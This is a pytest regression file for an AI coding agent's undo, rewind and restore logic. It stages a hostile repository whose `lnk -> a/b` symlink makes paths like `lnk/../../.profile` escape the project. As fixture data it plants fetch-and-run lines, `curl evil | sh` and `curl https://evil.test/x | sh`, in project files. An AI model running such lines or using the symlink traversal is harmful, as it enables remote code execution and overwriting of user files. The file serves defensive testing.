"""Undo, rewind and the turn-end restore act on exactly the file the write changed (issue 30).

A hostile repository ships `lnk -> a/b`. The kernel reads `lnk/../../x` as
`<project>/x`; folding the `..` as text gives `<project>/../x`, a file outside
the project. The journal used to key the textual spelling, so the restore
deleted or overwrote the outside file. Each test stages that for real: real
symlinks in the test's temp dir, the real `rift -p` or `rift --serve` against
the scripted fake server, judged by the files on disk.
"""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import pytest

USER_JSONC = b'// the user\'s editor settings\n{"tabs": true}\n'


def write(path: str, content: str) -> dict[str, Any]:
    return {"tool_calls": [{"name": "write", "arguments": {"path": path, "content": content}}]}


def edit(path: str, old: str, new: str) -> dict[str, Any]:
    args = {"path": path, "old_string": old, "new_string": new}
    return {"tool_calls": [{"name": "edit", "arguments": args}]}


@pytest.fixture
def hostile(project: Path) -> Path:
    """The project with `lnk -> a/b`; returns the folder that holds it (outside it)."""
    (project / "a" / "b").mkdir(parents=True)
    (project / "lnk").symlink_to("a/b")
    return project.parent


@pytest.mark.parametrize("repo_has_it", [False, True], ids=["new-file", "repo-file"])
@pytest.mark.parametrize("sandbox", [False, True], ids=["plain", "bwrap"])
def test_turn_end_restore_never_touches_the_textual_path(
    harness: Any, hostile: Path, repo_has_it: bool, sandbox: bool
) -> None:
    if sandbox:
        if shutil.which("bwrap") is None:
            pytest.skip("bwrap is not installed")
        harness.write_config({"permissions": {"sandbox": "bwrap"}})
    outside = hostile / "settings.json"
    outside.write_bytes(USER_JSONC)  # does not parse as JSON: the restore's trigger
    inside = harness.project / "settings.json"
    if repo_has_it:
        inside.write_bytes(b'{"repo": "curl evil | sh"}\n')
    server = harness.server([write("lnk/../../settings.json", '{"a": 1}\n'), {"content": "ok"}])
    run = harness.run("set it", server)
    assert run.code == 0, run.describe()
    assert outside.read_bytes() == USER_JSONC
    assert inside.read_text() == '{"a": 1}\n'


def test_serve_undo_restores_the_written_file_not_the_users_profile(
    serve: Any, fake_server: Any, hostile: Path
) -> None:
    project = hostile / "project"
    profile = hostile / ".profile"
    profile.write_bytes(b"export PATH=$HOME/bin:$PATH\n")
    (project / ".profile").write_bytes(b"curl https://evil.test/x | sh\n")
    server = fake_server({"turns": [write("lnk/../../.profile", "echo hi\n"), {"content": "ok"}]})
    client = serve(server)
    client.send({"cmd": "set_approval", "approve": False})
    client.send({"cmd": "prompt", "text": "go"})
    client.expect("done")
    assert (project / ".profile").read_bytes() == b"echo hi\n"
    client.send({"cmd": "undo"})
    client.expect("info")
    assert profile.read_bytes() == b"export PATH=$HOME/bin:$PATH\n"
    assert (project / ".profile").read_bytes() == b"curl https://evil.test/x | sh\n"


def test_serve_undo_keeps_the_users_notes(serve: Any, fake_server: Any, hostile: Path) -> None:
    project = hostile / "project"
    notes = project / "notes.txt"
    notes.write_bytes(b"my notes\n")
    server = fake_server({"turns": [write("lnk/../notes.txt", "model\n"), {"content": "ok"}]})
    client = serve(server)
    client.send({"cmd": "set_approval", "approve": False})
    client.send({"cmd": "prompt", "text": "go"})
    client.expect("done")
    assert (project / "a" / "notes.txt").read_bytes() == b"model\n"
    client.send({"cmd": "undo"})
    client.expect("info")
    assert notes.read_bytes() == b"my notes\n"
    assert not (project / "a" / "notes.txt").exists()


def test_serve_rewind_keeps_a_file_outside_the_project(
    serve: Any, fake_server: Any, hostile: Path
) -> None:
    keep = hostile / "keep.py"
    keep.write_bytes(b"KEEP = 1\n")
    project = hostile / "project"
    server = fake_server({"turns": [write("lnk/../../keep.py", "X = 2\n"), {"content": "ok"}]})
    client = serve(server)
    client.send({"cmd": "set_approval", "approve": False})
    client.send({"cmd": "prompt", "text": "go"})
    client.expect("done")
    assert (project / "keep.py").read_bytes() == b"X = 2\n"
    client.send({"cmd": "rewind", "n": 1})
    client.expect("info")
    assert keep.read_bytes() == b"KEEP = 1\n"
    assert not (project / "keep.py").exists()


def test_serve_undo_through_a_symlinked_file_keeps_the_symlink(
    serve: Any, fake_server: Any, project: Path
) -> None:
    (project / "shared").mkdir()
    target = project / "shared" / "config.py"
    target.write_bytes(b"DEBUG = False\n")
    (project / "config.py").symlink_to("shared/config.py")
    step = edit("config.py", "DEBUG = False", "DEBUG = True")
    client = serve(fake_server({"turns": [step, {"content": "ok"}]}))
    client.send({"cmd": "set_approval", "approve": False})
    client.send({"cmd": "prompt", "text": "go"})
    client.expect("done")
    assert target.read_bytes() == b"DEBUG = True\n"
    assert (project / "config.py").is_symlink()
    client.send({"cmd": "undo"})
    client.expect("info")
    assert (project / "config.py").is_symlink()
    assert target.read_bytes() == b"DEBUG = False\n"


def test_undo_leaves_a_file_someone_else_replaced(
    serve: Any, fake_server: Any, project: Path
) -> None:
    """A restore never deletes what it did not create: the file rift made was replaced
    (another inode, other bytes) before the undo, so it stays, and undo says so."""
    server = fake_server({"turns": [write("made.txt", "rift\n"), {"content": "ok"}]})
    client = serve(server)
    client.send({"cmd": "set_approval", "approve": False})
    client.send({"cmd": "prompt", "text": "go"})
    client.expect("done")
    made = project / "made.txt"
    made.unlink()
    made.write_bytes(b"the user's own file now\n")
    client.send({"cmd": "undo"})
    warning = client.expect("warning")
    assert "changed since rift wrote it" in warning["text"]
    assert made.read_bytes() == b"the user's own file now\n"
